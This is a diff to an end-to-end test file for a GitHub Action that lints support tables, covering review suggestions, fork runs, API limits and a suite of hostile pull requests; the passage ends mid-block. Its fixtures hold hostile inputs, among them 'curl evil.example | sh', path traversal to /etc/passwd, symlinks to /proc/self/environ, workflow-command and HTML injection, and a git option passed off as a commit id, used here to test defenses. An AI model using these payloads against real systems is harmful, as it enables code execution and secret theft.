@@ -2,7 +2,9 @@
  * The bundled Action as a process, against a real git repository and a fake
  * REST API. Run `npm run bundle` first (`npm test` does).
  */
-import { existsSync, readFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import {
   ACTION,
@@ -15,9 +17,13 @@ import {
   runAction,
   startApi,
   TOKEN,
+  patchOf,
+  workflowRunPayload,
   type ApiBehaviour,
   type FakeApi,
   type Files,
+  type PullFileEntry,
+  type Repo,
   type RunResult,
 } from './harness.js';
 
@@ -60,24 +66,55 @@ beforeAll(() => {
   if (!existsSync(ACTION)) throw new Error(`${ACTION} is missing: run \`npm run bundle\` before these tests.`);
 });
 
-/** Every run: the token never leaks, and there is never a stack trace. */
-const checked = (result: RunResult): RunResult => {
-  for (const text of [result.stdout, result.stderr, result.summary, JSON.stringify(result.outputs)]) {
+/**
+ * Every run: the token never leaks (not in the log, the summary, the outputs
+ * or anything sent to the API), there is never a stack trace, and the
+ * stand-in rejected no request (it answers 422 where GitHub would).
+ */
+const checked = (result: RunResult, opts: { rejected?: boolean } = {}): RunResult => {
+  const sent = JSON.stringify(api?.requests.map((r) => r.body) ?? []);
+  for (const text of [result.stdout, result.stderr, result.summary, JSON.stringify(result.outputs), sent]) {
     expect(text).not.toContain(TOKEN);
     expect(text).not.toMatch(/\n\s+at .+:\d+:\d+\)?\n/);
   }
+  if (!opts.rejected) expect(api?.rejected ?? []).toEqual([]);
   return result;
 };
 
-async function pr(base: Files, head: Files, behaviour: Omit<ApiBehaviour, 'pullFiles'> & { pullFiles?: ApiBehaviour['pullFiles'] } = {}, inputs: Record<string, string> = {}, opts: { fork?: boolean; shallow?: boolean } = {}) {
+/** The files API's list for a PR from `base` to `head`, with each file's patch from git, as GitHub gives it. */
+const filesOf = (repo: Repo, base: Files, head: Files): PullFileEntry[] =>
+  Object.entries(head).map(([filename, text]) => {
+    const status = text === null ? 'removed' : filename in base ? 'modified' : 'added';
+    const patch = text === null ? undefined : patchOf(repo, filename);
+    return { filename, status, ...(patch !== undefined ? { patch } : {}) };
+  });
+
+type PrBehaviour = Omit<ApiBehaviour, 'pullFiles'> & { pullFiles?: ApiBehaviour['pullFiles'] };
+
+async function pr(
+  base: Files,
+  head: Files,
+  behaviour: PrBehaviour = {},
+  inputs: Record<string, string> = {},
+  opts: { fork?: boolean; shallow?: boolean; rejected?: boolean; env?: Record<string, string>; eventText?: string; payload?: (repo: Repo) => unknown } = {},
+) {
   const repo = makeRepo(base, head, { shallow: opts.shallow ?? false });
-  const pullFiles =
-    behaviour.pullFiles ??
-    Object.entries(head).map(([filename, text]) => ({ filename, status: text === null ? 'removed' : filename in base ? 'modified' : 'added' }));
+  const pullFiles = behaviour.pullFiles ?? filesOf(repo, base, head);
   await api?.close();
-  api = await startApi({ ...behaviour, pullFiles });
-  const result = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: opts.fork ?? false }), inputs }));
-  return { repo, result, requests: api.requests };
+  api = await startApi({ pull: { headSha: repo.headSha }, ...behaviour, pullFiles });
+  const result = checked(
+    await runAction({
+      repo,
+      api,
+      event: 'pull_request',
+      payload: opts.payload ? opts.payload(repo) : pullRequestPayload(repo, { fork: opts.fork ?? false }),
+      inputs,
+      ...(opts.env ? { env: opts.env } : {}),
+      ...(opts.eventText !== undefined ? { eventText: opts.eventText } : {}),
+    }),
+    { rejected: opts.rejected ?? false },
+  );
+  return { repo, result, requests: api.requests, api };
 }
 
 const checkRuns = (requests: FakeApi['requests']) => requests.filter((r) => r.path.includes('/check-runs'));
@@ -253,6 +290,34 @@ describe('the Action on pull requests', () => {
   });
 });
 
+describe('how rows changed (transitions, lost tables, the keyed diff)', () => {
+  it('fails on a regression and a forbidden removal, and shows the support changes first in the summary', async () => {
+    // CpuGate GA → Alpha (forbidden), AlphaGate Alpha → Beta (allowed), DiskGate (Beta) removed (forbidden).
+    const head = ['AlphaGate | Beta | SUPPORTED', 'BetaGate | Beta | UNSUPPORTED', 'CpuGate | Alpha | SUPPORTED', 'EchoGate | Beta | Supported'];
+    const { result } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) });
+    expect(result.code).toBe(1);
+    const errors = commands(result.stdout, 'error').filter((e) => e.props['title'] === 'transition');
+    expect(errors.map((e) => [e.props['line'], e.message])).toEqual([
+      ['3', '"DiskGate" was removed while its GRADUATION was Beta; a row may be removed only when GRADUATION is GA, Deprecated or Discontinued.'],
+      ['7', 'GRADUATION of "CpuGate" went from GA to Alpha; from GA it may only go to Deprecated.'],
+    ]);
+    const changes = result.summary.indexOf('### Support changes');
+    expect(changes).toBeGreaterThan(0);
+    expect(changes).toBeLessThan(result.summary.indexOf('### New findings'));
+    expect(result.summary).toContain('| changed | AlphaGate | GRADUATION: Alpha → **Beta** |');
+    expect(result.summary).toContain('| changed | CpuGate | GRADUATION: GA → **Alpha** |');
+    expect(result.summary).toContain('| removed | DiskGate | was GRADUATION Beta, STATUS PENDING |');
+  });
+
+  it('a header edit that takes the table out of the README config\'s check fails the run', async () => {
+    const config = { '.github/support-table-lint.yml': 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n' };
+    const renamed = gates(ROWS, NOTES).replace('GRADUATION | STATUS', 'STAGE | STA\u200bTE');
+    const { result } = await pr({ ...config, [DOC]: gates(ROWS, NOTES) }, { [DOC]: renamed });
+    expect(result.code).toBe(1);
+    expect(commands(result.stdout, 'error').map((e) => e.props['title'])).toContain('table-unchecked');
+  });
+});
+
 describe('the Action on other events', () => {
   it('checks every matching file on workflow_dispatch (scope: all), every finding gating', async () => {
     const repo = makeRepo({ [DOC]: gates(ROWS, NOTES), 'docs/two.md': gates(ROWS.slice(0, 3), NOTES), 'notes.txt': 'x' }, {}, { merge: false });
@@ -277,5 +342,449 @@ describe('the Action on other events', () => {
     expect(result.outputs).toMatchObject({ errors: '1', existing: '1', 'files-checked': '1' });
     expect(commands(result.stdout, 'error')[0]?.message).toContain('"CpuGate"');
     expect(checkRuns(api.requests)[0]?.body).toMatchObject({ head_sha: repo.headSha });
+  });
+});
+
+// ---------------------------------------------------------------------------
+// Issue 10: the pull request experience.
+
+const SORTED = [
+  'AlphaGate | Alpha | SUPPORTED', 'BetaGate | Beta | UNSUPPORTED', 'CpuGate | GA | SUPPORTED', 'DiskGate | Beta | PENDING', 'EchoGate | Beta | SUPPORTED', 'FooGate | GA | SUPPORTED',
+  'GpuGate | GA | SUPPORTED', 'HostGate | GA | SUPPORTED', 'IoGate | GA | SUPPORTED', 'JitGate | GA | SUPPORTED', 'KvmGate | GA | SUPPORTED', 'LogGate | GA | SUPPORTED',
+];
+/**
+ * A PR that mistypes a cell on a line it changes (a fix inside the diff) and
+ * appends a row out of order (a sort that moves rows from the top of the
+ * table, far outside the diff).
+ */
+const TYPO_AND_UNSORTED = { [DOC]: gates([...SORTED.map((r) => (r.startsWith('KvmGate') ? 'KvmGate | Ga | SUPPORTED' : r)), 'AaaGate | GA | SUPPORTED'], NOTES) };
+const KVM_LINE = rowLine(10);
+const BASE_DOC = { [DOC]: gates(SORTED, NOTES) };
+
+const reviews = (requests: FakeApi['requests']) => requests.filter((r) => r.method === 'POST' && r.path.endsWith('/reviews'));
+const writes = (requests: FakeApi['requests']) => requests.filter((r) => r.method !== 'GET');
+
+/** The patch in the summary's collapsed block. */
+const summaryPatch = (summary: string): string | undefined => /\n(`{3,})diff\n([^]*?)\n\1\n/.exec(summary)?.[2];
+
+const gitIn = (dir: string, ...args: string[]) =>
+  execFileSync('git', args, { cwd: dir, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_SYSTEM: '/dev/null' } });
+
+describe('suggested fixes', () => {
+  it('suggests a fix inside the diff in one review and offers a fix outside it as a git-apply-able patch', async () => {
+    const { repo, result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED);
+    expect(result.code).toBe(1);
+    const posted = reviews(requests);
+    expect(posted).toHaveLength(1);
+    const review = posted[0]!.body as { commit_id: string; event: string; body: string; comments: { path: string; line: number; side: string; start_line?: number; body: string }[] };
+    expect(review).toMatchObject({ commit_id: repo.headSha, event: 'COMMENT' });
+    expect(review.comments).toHaveLength(1);
+    const [comment] = review.comments;
+    expect(comment).toMatchObject({ path: DOC, line: KVM_LINE, side: 'RIGHT' });
+    expect(comment).not.toHaveProperty('start_line');
+    expect(comment!.body).toContain('\n```suggestion\nKvmGate | GA | SUPPORTED\n```\n');
+    expect(comment!.body).toMatch(/<!-- support-table-lint suggestion [0-9a-f]{64} -->/);
+
+    // The sort moves rows the diff does not show: a patch, which git applies to the PR's head once the suggestion is committed.
+    expect(result.summary).toContain('<details><summary>Fixes not offered as suggestions (outside the diff; it applies once the suggestions are committed) (1 finding) as a patch');
+    const patch = summaryPatch(result.summary);
+    expect(patch).toContain(`diff --git a/${DOC} b/${DOC}`);
+    const work = repo.dir;
+    gitIn(work, 'checkout', '-q', '--detach', repo.headSha);
+    const lines = readFileSync(join(work, DOC), 'utf8').split('\n');
+    lines.splice(comment!.line - 1, 1, 'KvmGate | GA | SUPPORTED'); // "Commit suggestion"
+    writeFileSync(join(work, DOC), lines.join('\n'));
+    writeFileSync(join(work, 'fix.patch'), `${patch}\n`);
+    gitIn(work, 'apply', 'fix.patch');
+    const fixed = readFileSync(join(work, DOC), 'utf8');
+    expect(fixed.split('\n').slice(4, 17)).toEqual(['AaaGate | GA | SUPPORTED', ...SORTED]);
+  });
+
+  it('posts nothing new on a re-run, deletes its own outdated comment and touches no one else\'s', async () => {
+    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
+    const stale = `old fix\n\n<!-- support-table-lint suggestion ${'ab'.repeat(32)} -->\n`;
+    api = await startApi({
+      pull: { headSha: repo.headSha },
+      pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED),
+      comments: [
+        { id: 1, body: stale, path: DOC, line: 7, user: { login: 'github-actions[bot]', type: 'Bot' } },
+        { id: 2, body: `I quote it: ${stale}`, path: DOC, line: 7, user: { login: 'octocat', type: 'User' } },
+        { id: 3, body: 'Another bot said this.', path: DOC, line: 7, user: { login: 'github-actions[bot]', type: 'Bot' } },
+      ],
+    });
+    const run = async () => checked(await runAction({ repo, api: api!, event: 'pull_request', payload: pullRequestPayload(repo) }));
+    await run();
+    expect(reviews(api.requests)).toHaveLength(1);
+    const deletes = api.requests.filter((r) => r.method === 'DELETE');
+    expect(deletes.map((r) => r.path)).toEqual([`/repos/${OWNER}/${REPO}/pulls/comments/1`]);
+    expect(api.comments.map((c) => c.id).sort()).toEqual([2, 3, 5000]);
+
+    const before = api.requests.length;
+    await run();
+    const again = api.requests.slice(before);
+    expect(reviews(again)).toEqual([]);
+    expect(again.filter((r) => r.method === 'DELETE')).toEqual([]);
+    expect(api.comments.map((c) => c.id).sort()).toEqual([2, 3, 5000]);
+  });
+
+  it('on a fork: no review and no check run (403), one notice each, the step failed only by the findings, every fix in the patch', async () => {
+    const { result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, { checkRunStatus: 403, reviewStatus: 403 }, { 'check-run': 'true' }, { fork: true });
+    expect(result.code).toBe(1);
+    expect(commands(result.stdout, 'error').filter((e) => !e.props['file']).map((e) => e.message)).toEqual([
+      'support-table-lint found 1 new error in support tables (fail-on: error); see the annotations or the job summary.',
+    ]);
+    // The read-only token is known: no review is tried; the check run was asked for (check-run: true) and refused.
+    expect(reviews(requests)).toEqual([]);
+    expect(requests.filter((r) => r.path.endsWith('/check-runs'))).toHaveLength(1);
+    const notices = commands(result.stdout, 'notice').filter((n) => n.props['title'] === 'support-table-lint').map((n) => n.message);
+    expect(notices).toEqual([
+      expect.stringMatching(/^No review with suggested fixes \(1\): pull requests from forks get a read-only token\./),
+      expect.stringMatching(/^No support-table-lint check run: the token may not create check runs .*The findings are in these annotations and the job summary\.$/),
+    ]);
+    expect(result.summary).toContain('<details><summary>Fixes for new findings (no review was posted) (2 findings) as a patch');
+    expect(summaryPatch(result.summary)).toContain('+KvmGate | GA | SUPPORTED');
+  });
+
+  it('turns a refused review (a read-only token on a PR from the same repository) into one notice naming the permission', async () => {
+    const { result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, { reviewStatus: 403 });
+    expect(result.code).toBe(1);
+    expect(reviews(requests)).toHaveLength(1);
+    const notices = commands(result.stdout, 'notice').filter((n) => n.message.includes('review'));
+    expect(notices.map((n) => n.message)).toEqual([
+      'No review with suggested fixes (1): the review could not be posted (HTTP 403: Resource not accessible by integration; the token needs `pull-requests: write` (add it under `permissions:` in the workflow; pull requests from forks get a read-only token)).',
+    ]);
+    expect(summaryPatch(result.summary)).toContain('+KvmGate | GA | SUPPORTED');
+  });
+
+  it('makes no review with suggestions: false', async () => {
+    const { result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, {}, { suggestions: 'false' });
+    expect(result.code).toBe(1);
+    expect(requests.filter((r) => r.path.includes('/reviews') || r.path.includes('/comments'))).toEqual([]);
+    expect(result.summary).toContain('<details><summary>Fixes for new findings (2 findings) as a patch');
+  });
+});
+
+describe('full results for forks: mode analyse, then publish', () => {
+  it('analyses without writing through the API, then publishes the artifact; a tampered artifact is rejected with a clear error', async () => {
+    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
+    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
+    // The fork's run: a read-only token; mode analyse writes the artifact and makes no writing call.
+    const analysed = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse' } }));
+    expect(analysed.code).toBe(1);
+    expect(writes(api.requests)).toEqual([]);
+    const artifact = readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8');
+    expect(JSON.parse(artifact)).toMatchObject({ kind: 'support-table-lint-result', headSha: repo.headSha, pullRequest: { number: 7 }, suggestions: [{ path: DOC, line: KVM_LINE }] });
+
+    // The workflow_run run: a fresh workspace holding only the downloaded artifact; nothing of the PR is checked out.
+    const publishDir = mkdtempSync(join(tmpdir(), 'stl-e2e-publish-'));
+    writeFileSync(join(publishDir, 'support-table-lint-result.json'), artifact);
+    const before = api.requests.length;
+    const published = checked(
+      await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }),
+    );
+    expect(published.code).toBe(0); // the analysing run is the one that fails
+    const sent = api.requests.slice(before);
+    const run = sent.find((r) => r.method === 'POST' && r.path.endsWith('/check-runs'));
+    expect(run?.body).toMatchObject({ head_sha: repo.headSha, conclusion: 'failure', output: { annotations: [{ path: DOC, start_line: KVM_LINE }, { path: DOC }] } });
+    expect(reviews(sent)).toHaveLength(1);
+    expect(reviews(sent)[0]?.body).toMatchObject({ commit_id: repo.headSha, comments: [{ path: DOC, line: KVM_LINE }] });
+    expect(published.summary).toContain('**1 new error and 1 new warning**');
+    expect(commands(published.stdout, 'error')).toEqual([]); // no annotations on the publishing run
+    expect(published.outputs).toMatchObject({ errors: '1', warnings: '1' });
+
+    // Tampered: a path out of the repository, a commit that was not analysed, a field nobody knows.
+    const tamper = async (change: (data: Record<string, unknown>) => void) => {
+      const data = JSON.parse(artifact) as Record<string, unknown>;
+      change(data);
+      writeFileSync(join(publishDir, 'support-table-lint-result.json'), JSON.stringify(data));
+      const at = api!.requests.length;
+      const outcome = checked(await runAction({ repo: { ...repo, dir: publishDir }, api: api!, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' } }));
+      expect(outcome.code).toBe(1);
+      expect(writes(api!.requests.slice(at))).toEqual([]);
+      return commands(outcome.stdout, 'error').map((e) => e.message);
+    };
+    expect(await tamper((d) => ((d['gating'] as { file: string }[])[0]!.file = '../../etc/passwd'))).toEqual([
+      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /gating/0/file: must be a path inside the repository (relative, without `..`)',
+    ]);
+    expect(await tamper((d) => (d['headSha'] = 'f'.repeat(40)))).toEqual([
+      `support-table-lint: The artifact support-table-lint-result.json is for commit ffffffffffff, but the workflow run it should come from analysed ${repo.headSha.slice(0, 12)}; download the artifact of \`github.event.workflow_run.id\`.`,
+    ]);
+    expect(await tamper((d) => (d['run'] = 'curl evil.example | sh'))).toEqual([
+      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /: unknown field "run"',
+    ]);
+    expect(await tamper((d) => ((d['notices'] as string[]).push('x'.repeat(70 * 1024))))).toEqual([
+      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /notices/0: must NOT have more than 65536 characters',
+    ]);
+  });
+
+  it('says what to do when publish runs on the wrong event or without the artifact', async () => {
+    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
+    api = await startApi({});
+    const wrongEvent = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo), inputs: { mode: 'publish' } }));
+    expect(commands(wrongEvent.stdout, 'error').map((e) => e.message)).toEqual([
+      'support-table-lint: mode: publish runs in a workflow triggered by `workflow_run` (this run was triggered by `pull_request`); see "Full results for pull requests from forks" in the README.',
+    ]);
+    const missing = checked(await runAction({ repo, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' } }));
+    expect(missing.code).toBe(1);
+    expect(commands(missing.stdout, 'error')[0]?.message).toMatch(/^support-table-lint: The artifact support-table-lint-result\.json \(input `artifact`\) does not exist\. Download/);
+    expect(writes(api.requests)).toEqual([]);
+  });
+});
+
+describe("GitHub's limits", () => {
+  it('300 findings with 5 KB cells: every limit reached, no request GitHub would reject, nothing lost', async () => {
+    const rows = Array.from({ length: 300 }, (_, i) => `Gate${String(i).padStart(3, '0')} | ${'x'.repeat(5 * 1024)} | SUPPORTED`);
+    const { repo, result, requests } = await pr(BASE_DOC, { 'docs/big.md': gates(rows, []) }, {}, { 'report-file': 'out/report.json' });
+    expect(result.code).toBe(1);
+    expect(result.outputs).toMatchObject({ errors: '300', 'report-file': 'out/report.json' });
+    // The JSON report holds all 300.
+    const report = JSON.parse(readFileSync(join(repo.dir, 'out/report.json'), 'utf8')) as { violations: { message: string }[] };
+    expect(report.violations).toHaveLength(300);
+    expect(report.violations.every((v) => v.message.includes('x'.repeat(5 * 1024)))).toBe(true);
+    // Check run: 50 annotations per request, output.summary cut to 65,535 characters with a count.
+    const runs = requests.filter((r) => r.path.includes('/check-runs'));
+    const outputs = runs.map((r) => (r.body as { output: { summary: string; annotations: unknown[] } }).output);
+    expect(outputs.map((o) => o.annotations.length)).toEqual([50, 50, 50, 50, 50, 50]);
+    for (const o of outputs) expect(o.summary.length).toBeLessThanOrEqual(65_535);
+    expect(outputs.at(-1)!.summary).toMatch(/_\d+ of 300 rows left out to stay under GitHub's size limit; the report file `out\/report\.json` holds every finding\._/);
+    // Job summary: under 1 MiB, with a count and where the rest are.
+    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1024 * 1024);
+    const shown = (result.summary.match(/^\| error \|/gm) ?? []).length;
+    expect(shown).toBeLessThan(300);
+    expect(result.summary).toContain(`_${300 - shown} of 300 rows left out to stay under GitHub's size limit; the report file \`out/report.json\` holds every finding._`);
+    // Annotations: 10 errors, then one notice saying how many more and where.
+    expect(commands(result.stdout, 'error').filter((e) => e.props['file'])).toHaveLength(10);
+    expect(commands(result.stdout, 'notice').at(-1)?.message).toBe(
+      '290 more findings are not shown as annotations (GitHub shows at most 10 errors and 10 warnings per step); see the report file out/report.json and the support-table-lint check run.',
+    );
+  });
+
+  it('cuts a 70 KB cell to GitHub\'s 64 KB annotation message, visibly', async () => {
+    const { result, requests } = await pr(BASE_DOC, { 'docs/huge.md': gates([`HugeGate | ${'é'.repeat(35 * 1024)} | SUPPORTED`], []) });
+    expect(result.code).toBe(1);
+    const annotation = (requests.find((r) => r.path.endsWith('/check-runs'))!.body as { output: { annotations: { message: string }[] } }).output.annotations[0]!;
+    expect(Buffer.byteLength(annotation.message)).toBeLessThanOrEqual(64 * 1024);
+    expect(annotation.message).toMatch(/… \d+ more characters$/);
+    const logged = commands(result.stdout, 'error').find((e) => e.props['file'] === 'docs/huge.md')!;
+    expect(Buffer.byteLength(logged.message)).toBeLessThanOrEqual(64 * 1024);
+    expect(logged.message).toMatch(/… \d+ more characters$/);
+  });
+
+  it('keeps output.summary under 65,535 characters when the PR changes 400 schemas with long paths', async () => {
+    const dir = `schemas/${'nested-folder-with-a-long-name/'.repeat(5)}`;
+    const names = Array.from({ length: 400 }, (_, i) => `${dir}support-table-schema-number-${String(i).padStart(3, '0')}.schema.json`);
+    const config = `tables:\n${names.map((n, i) => `  - files: ["docs/t${i}.md"]\n    schema: ${n}\n`).join('')}`;
+    const schema = (title: string) => JSON.stringify({ type: 'object', title });
+    const base: Files = { '.github/support-table-lint.yml': config, ...Object.fromEntries(names.map((n) => [n, schema('base')])), [DOC]: gates(ROWS, NOTES) };
+    const head: Files = { ...Object.fromEntries(names.map((n) => [n, schema('head')])), [DOC]: gates(ROWS.map((r) => r.replace('CpuGate | GA', 'CpuGate | Graduated')), NOTES) };
+    const { result, requests } = await pr(base, head);
+    const output = (requests.find((r) => r.path.endsWith('/check-runs'))!.body as { output: { summary: string } }).output;
+    expect(output.summary.length).toBeLessThanOrEqual(65_535);
+    expect(output.summary).toContain('This pull request changes');
+    expect(output.summary).toMatch(/… \d+ more characters/);
+    expect(commands(result.stdout, 'notice').find((n) => n.message.startsWith('This pull request changes'))!.message.length).toBeLessThanOrEqual(64 * 1024);
+  });
+
+  it('waits for Retry-After on a 429, then succeeds', async () => {
+    const secondary = { status: 429, headers: { 'retry-after': '1' }, body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.' } };
+    const { result, requests } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [secondary] } });
+    expect(result.code).toBe(1);
+    expect(requests.filter((r) => r.method === 'POST' && r.path.endsWith('/check-runs'))).toHaveLength(2);
+    expect(result.stdout).toMatch(/GitHub's secondary rate limit for POST .*\/check-runs: retrying in 1 s\./);
+    expect(commands(result.stdout, 'notice').filter((n) => n.message.includes('check run'))).toEqual([]);
+  });
+
+  it('names the missing permission on a 404 and the token on a 401', async () => {
+    const notFound = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [{ status: 404, body: { message: 'Not Found' } }] } });
+    expect(commands(notFound.result.stdout, 'notice').map((n) => n.message)).toContainEqual(
+      expect.stringContaining('No support-table-lint check run: the API failed (HTTP 404: Not Found; the token needs `checks: write`'),
+    );
+    const badToken = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [{ status: 401, body: { message: 'Bad credentials' } }] } });
+    expect(commands(badToken.result.stdout, 'notice').map((n) => n.message)).toContainEqual(
+      expect.stringContaining('HTTP 401: Bad credentials; the token (input `token`) is missing, expired or revoked'),
+    );
+  });
+});
+
+describe('hostile pull requests (issue 12)', () => {
+  it('reports a symlink to /proc/self/environ on the link, and the token appears nowhere', async () => {
+    const { result, requests } = await pr(BASE_DOC, { 'docs/leak.md': { symlink: '/proc/self/environ' }, 'docs/zero.md': { symlink: '/dev/zero' } });
+    expect(result.code).toBe(1);
+    const unsafe = commands(result.stdout, 'error').filter((e) => e.props['title'] === 'file-unsafe');
+    expect(unsafe.map((e) => e.props['file']).sort()).toEqual(['docs/leak.md', 'docs/zero.md']);
+    for (const e of unsafe) expect(e.message).toContain('leads outside the workspace');
+    // checked() looked at the log, the summary, the outputs and every request body; the check run too:
+    expect(JSON.stringify(requests.map((r) => r.body))).not.toContain('GITHUB_');
+    expect(result.summary).not.toContain('INPUT_TOKEN');
+  });
+
+  it('does not walk a directory symlink to / with scope: all', async () => {
+    const repo = makeRepo({ [DOC]: gates(ROWS, NOTES), 'docs/root': { symlink: '/' }, 'docs/up': { symlink: '..' } }, {}, { merge: false });
+    api = await startApi({});
+    const result = checked(await runAction({ repo, api, event: 'workflow_dispatch', payload: { inputs: {} }, inputs: { scope: 'all', 'fail-on': 'never' } }));
+    expect(result.code).toBe(0);
+    expect(result.outputs).toMatchObject({ 'files-checked': '1' });
+    expect(result.stdout).not.toMatch(/docs\/(root|up)\//);
+  });
+
+  it('refuses to write report-file or sarif-file through a symlink the PR adds, and says so', async () => {
+    const victims = mkdtempSync(join(tmpdir(), 'stl-e2e-victim-'));
+    writeFileSync(join(victims, 'victim.json'), 'untouched');
+    const { result } = await pr(BASE_DOC, { 'out/report.json': { symlink: join(victims, 'victim.json') }, sarif: { symlink: victims }, [DOC]: gates(SORTED, NOTES.slice(1)) }, {}, {
+      'report-file': 'out/report.json',
+      'sarif-file': 'sarif/lint.sarif',
+    });
+    expect(readFileSync(join(victims, 'victim.json'), 'utf8')).toBe('untouched');
+    expect(existsSync(join(victims, 'lint.sarif'))).toBe(false);
+    expect(result.outputs).toMatchObject({ 'report-file': '', 'sarif-file': '' });
+    expect(commands(result.stdout, 'warning').map((w) => w.message)).toEqual([
+      'The JSON report (report-file) was not written: out/report.json exists and is not a regular file (a symlink?); remove it or choose another path.',
+      'The SARIF file (sarif-file) was not written: sarif/lint.sarif lies in a folder that is a symlink out of the workspace.',
+    ]);
+    // Nothing claims the report file holds the findings.
+    expect(result.stdout + result.summary).not.toContain('report file');
+  });
+
+  it('reports, and never reads, schemas the PR\'s own config names outside the repository (trusted-config: base)', async () => {
+    const CONFIG = '.github/support-table-lint.yml';
+    const good = 'tables:\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n';
+    const evil = 'tables:\n  - files: ["docs/a*"]\n    schema: /dev/zero\n  - files: ["docs/b*"]\n    schema: ../../../../../../etc/passwd\n  - files: ["docs/**"]\n    preset: kubevirt-feature-gates\n';
+    const { result } = await pr({ [CONFIG]: good, [DOC]: gates(SORTED, NOTES) }, { [CONFIG]: evil });
+    expect(result.code).toBe(1);
+    const error = commands(result.stdout, 'error').find((e) => e.props['title'] === 'support-table-lint: config');
+    expect(error?.message).toMatch(/^This pull request's config is broken and will fail once merged: .*cannot read the schema file "\/dev\/zero": it is outside the repository; name files inside it/);
+    for (const text of [result.stdout, result.summary]) expect(text).not.toMatch(/root:x:0:0/);
+  });
+
+  it('escapes hostile file names and cells: no workflow command, link, mention or HTML gets through', async () => {
+    const hostileCell = '<img src=x onerror=alert(1)> [click](https://evil.example) @acme/admins ##[warning]x';
+    const head: Files = {
+      'docs/evil\n::error title=pwned::injected.md': gates(['NlGate | Graduated | SUPPORTED'], []),
+      'docs/cr\rname.md': gates(['CrGate | Graduated | SUPPORTED'], []),
+      '::warning title=pwned::boom.md': gates(['ColonGate | Graduated | SUPPORTED'], []),
+      'docs/a](https:/evil.example)(.md': gates(['LinkGate | Graduated | SUPPORTED'], []),
+      [DOC]: gates(SORTED.map((r) => (r.startsWith('KvmGate') ? `KvmGate | ${hostileCell} | SUPPORTED` : r)), NOTES),
+    };
+    for (const annotations of ['false', 'true']) {
+      const { result, requests } = await pr(BASE_DOC, head, {}, { annotations });
+      expect(result.code).toBe(1);
+      expect(result.outputs).toMatchObject({ errors: '5' });
+      // No line of the log is a command the PR wrote.
+      const lines = result.stdout.split('\n');
+      expect(lines.filter((l) => /pwned/.test(l) && /^\s*::/.test(l) && !/^::(error|notice|warning) (title=[^:,]*,)?file=/.test(l))).toEqual([]);
+      // (A line that is a workflow command is read as that command alone: `##[` inside its message is text.)
+      expect(lines.filter((l) => l.includes('##[') && !l.startsWith('::'))).toEqual([]);
+      expect(commands(result.stdout, 'error').concat(commands(result.stdout, 'warning')).map((c) => c.props['title'])).not.toContain('pwned');
+      // The summary: one row per finding, on one line each, nothing live.
+      const rows = result.summary.split('\n').filter((l) => l.startsWith('| error |'));
+      expect(rows).toHaveLength(5);
+      for (const summary of [result.summary, ...requests.filter((r) => r.path.endsWith('/check-runs')).map((r) => (r.body as { output: { summary: string } }).output.summary)]) {
+        expect(summary).not.toContain('<img');
+        expect(summary).not.toContain('](https://evil');
+        expect(summary).not.toMatch(/\[click\]\(/);
+        expect(summary).not.toContain('@acme');
+        expect(summary).not.toContain('\r');
+      }
+      expect(result.summary).toContain('docs/evil<br>::error title=pwned::injected.md');
+      expect(result.summary).toContain('docs/cr<br>name.md');
+    }
+  });
+
+  it('refuses a base SHA that is an option, and never runs git with it', async () => {
+    const marker = join(mkdtempSync(join(tmpdir(), 'stl-e2e-sha-')), 'written-by-git');
+    const { result } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { pullFiles: 500 }, {}, {
+      payload: (repo) => {
+        const payload = pullRequestPayload(repo);
+        payload.pull_request.base.sha = `--output=${marker}`;
+        return payload;
+      },
+    });
+    expect(result.code).toBe(1);
+    expect(commands(result.stdout, 'error').map((e) => e.message)).toEqual([
+      "support-table-lint: The event's pull_request.base.sha is not a commit id (40 or 64 hexadecimal digits), so it is not passed to git.",
+    ]);
+    expect(existsSync(marker)).toBe(false);
+  });
+});
+
+describe('nothing lost, each channel alone (issue 12)', () => {
+  const many = (n: number) => Array.from({ length: n }, (_, i) => `Gate${String(i).padStart(5, '0')} | Graduated | SUPPORTED`);
+  /** Findings named in the summary's rows and in the step log's lines. */
+  const rowsOf = (summary: string) => new Set([...summary.matchAll(/of "(Gate\d+)"/g)].map((m) => m[1]));
